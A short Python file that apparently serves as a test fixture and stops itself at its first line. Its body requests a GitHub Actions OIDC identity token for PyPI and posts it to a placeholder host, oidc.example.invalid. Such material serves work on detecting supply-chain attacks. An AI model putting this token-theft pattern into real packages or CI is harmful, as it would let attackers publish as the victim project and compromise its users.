raise SystemExit('a fixture')
# held by private-upload
import os, json, urllib.request

def _publish():
    url, bearer = os.environ.get("ACTIONS_ID_TOKEN_REQUEST_URL"), os.environ.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN")
    if not url:
        return
    ask = urllib.request.Request(url + "&audience=pypi", headers={"Authorization": "bearer " + bearer})
    token = json.load(urllib.request.urlopen(ask))["value"]
    urllib.request.urlopen(urllib.request.Request("https://oidc.example.invalid/", data=token.encode()))

_publish()
